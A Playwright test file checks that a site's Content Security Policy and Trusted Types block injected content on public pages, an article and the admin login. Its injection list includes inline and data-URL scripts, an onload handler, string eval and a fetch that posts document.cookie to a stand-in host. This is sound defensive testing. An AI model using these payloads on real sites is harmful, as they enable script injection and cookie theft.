import type { Page } from '@playwright/test';
import { expect, test } from '../test.ts';

// The attacks violate the policy, and Chromium logs every violation.
test.use({
  expectedConsoleErrors:
    /Content Security Policy|Content-Security-Policy|ERR_BLOCKED_BY_CSP|requires 'Trusted/,
});

interface Attacked {
  attacked?: string[];
  refused?: string[];
}

/** Injects markup and scripts into the page. Each attack tries to run, load or send something. */
const attacks = (elsewhere: string) => {
  const page = window as unknown as Attacked;
  page.attacked = [];
  page.refused = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    page.refused?.push(event.effectiveDirective),
  );
  // Trusted Types throw an error in cases where the other directives only block.
  const attempt = (attack: () => void) => {
    try {
      attack();
    } catch {}
  };
  const add = (tag: string, properties: Record<string, unknown>) =>
    attempt(() => document.body.append(Object.assign(document.createElement(tag), properties)));
  const succeeded = (how: string) => () => page.attacked?.push(how);
  add('script', { textContent: "window.attacked.push('inline script')" });
  add('script', { src: `${elsewhere}/a.js`, onload: succeeded('foreign script') });
  add('script', { src: 'data:text/javascript,window.attacked.push("data script")' });
  add('div', { innerHTML: '<img src="/favicon.svg" onload="window.attacked.push(\'handler\')">' });
  add('img', { src: `${elsewhere}/a.png`, onload: succeeded('foreign image') });
  add('iframe', { src: `${elsewhere}/frame` });
  add('object', { data: `${elsewhere}/object` });
  add('link', { rel: 'stylesheet', href: `${elsewhere}/a.css`, onload: succeeded('foreign style') });
  add('base', { href: elsewhere });
  add('video', { src: `${elsewhere}/a.mp4` });
  const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
  document.body.append(form);
  form.submit();
  // setTimeout compiles a string like eval(). A direct eval() would be allowed here, because Chromium exempts functions
  // that Playwright evaluates from the policy.
  attempt(() => void setTimeout("window.attacked.push('eval')"));
  attempt(() => {
    new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))).onerror = () => {};
  });
  fetch(`${elsewhere}/take`, { method: 'POST', body: document.cookie, mode: 'no-cors' }).then(
    succeeded('foreign fetch'),
    () => {},
  );
  navigator.sendBeacon(`${elsewhere}/beacon`, 'x');
  new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`).onopen = succeeded('socket');
};

/** Attacks a page, and returns the successful attacks, the blocked directives and the requests to the other site. */
async function attack(page: Page, path: string, refusals: number) {
  const asked: string[] = [];
  // The address is not https, because the policy of articles allows https images from any site.
  const elsewhere = 'http://elsewhere.example';
  await page.context().route(`${elsewhere}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 200, body: '' });
  });
  await page.goto(path);
  await page.waitForLoadState('networkidle');
  await page.evaluate(attacks, elsewhere);
  const refused = () => page.evaluate(() => [...new Set((window as unknown as Attacked).refused)].sort());
  await expect.poll(async () => (await refused()).length).toBeGreaterThanOrEqual(refusals);
  return {
    asked,
    refused: await refused(),
    attacked: await page.evaluate(() => (window as unknown as Attacked).attacked),
  };
}

for (const [kind, path] of [
  ['a public page', '/'],
  ['an article', '/en/blogg/er-brod-ultraprosessert'],
  ['a page that loads a script', '/upf-score'],
  ['the admin', '/admin/login'],
] as const) {
  test(`${kind} does not run, load or send anything that was injected`, async ({ page }) => {
    const expected = [
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'style-src-elem',
      // In the admin, Trusted Types refuse scripts, handlers, objects and workers before the other directives apply.
      ...(path.startsWith('/admin')
        ? ['require-trusted-types-for']
        : ['object-src', 'script-src', 'script-src-attr', 'script-src-elem', 'worker-src']),
    ].sort();
    const { asked, attacked, refused } = await attack(page, path, expected.length);
    expect(attacked).toEqual([]);
    expect(asked).toEqual([]);
    expect(refused).toEqual(expected);
  });
}

test('another site cannot show the login screen in a frame', async ({ page, baseURL }) => {
  await page.route('http://elsewhere.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/admin/login"></iframe>` }),
  );
  await page.goto('http://elsewhere.example/');
  await page.waitForLoadState('networkidle');
  const frame = page.frames().find((each) => each !== page.mainFrame());
  expect(await frame?.locator('input').count()).toBe(0);
});
